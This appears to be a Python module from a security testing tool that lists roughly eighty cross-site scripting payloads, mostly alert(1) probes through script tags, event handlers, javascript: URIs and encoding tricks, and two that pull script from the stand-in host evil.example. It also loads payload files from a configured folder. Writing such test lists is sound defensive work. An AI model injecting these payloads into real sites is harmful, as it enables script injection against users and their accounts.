"""Script payloads of our own, and where others are read from when a folder is named."""

import os
from pathlib import Path

_CALL = "alert(1)"
OWN = (
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script/x>{_CALL}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    f"<script type=module>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f"<img/src/onerror={_CALL}>",
    f"<IMG SRC=x ONERROR={_CALL}//",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_CALL}><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><body onload={_CALL}></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{_CALL}'/>#x\">",
    f"<math><mi//xlink:href=javascript:{_CALL}>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f"<body onload={_CALL}>",
    f"<body onpageshow={_CALL}>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    f"<iframe onload={_CALL}></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<button autofocus onfocus={_CALL}>x</button>",
    f"<details open ontoggle={_CALL}>x",
    f"<video><source onerror={_CALL}></video>",
    f"<video src=x onerror={_CALL}>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<form action=javascript:{_CALL}><button>x",
    f"<form><button formaction=javascript:{_CALL}>x",
    f"<isindex action=javascript:{_CALL} type=submit>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href='java\tscript:{_CALL}'>x</a>",
    f"<a href='&#106;avascript:{_CALL}'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"<base href=javascript:{_CALL}//>",
    f"<link rel=stylesheet href=javascript:{_CALL}>",
    "<link rel=import href=//evil.example/x.html>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<style>@import 'javascript:{_CALL}';</style>",
    f"<style onload={_CALL}></style>",
    f'<div style="background:url(javascript:{_CALL})">x</div>',
    f"<div style=width:expression({_CALL})>x</div>",
    f'" onmouseover={_CALL} x="',
    f"' onfocus={_CALL} autofocus x='",
    f"` onfocus={_CALL} autofocus x=`",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "';alert(1);//",
    '";alert(1);//',
    '\\";alert(1);//',
    "</script><svg onload=alert`1`>",
    f"<template><script>{_CALL}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"<xss id=x tabindex=1 onactivate={_CALL}></xss>",
    f"<x hx-on:load={_CALL} hx-trigger=load hx-get=/>",
    f"<div hx-get=/healthz hx-trigger=load hx-on::after-request={_CALL}>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>".replace("\x00", ""),
)


def payloads(name: str, own: tuple[str, ...] = ()) -> list[str]:
    """Return our payloads, or every line of `name` in PAYLOADS_FOLDER when it is set."""
    folder = os.environ.get("PAYLOADS_FOLDER", "")
    if not folder:
        return list(own)
    text = (Path(folder) / name).read_text(encoding="utf-8", errors="replace")
    return [line.replace("\0", "") for line in text.splitlines() if line.strip()]


def note(line: str) -> None:
    """Keep a figure for the command that asked for it (PAYLOADS_REPORT)."""
    report = os.environ.get("PAYLOADS_REPORT", "")
    if report:
        with Path(report).open("a") as file:
            file.write(f"{line}\n")
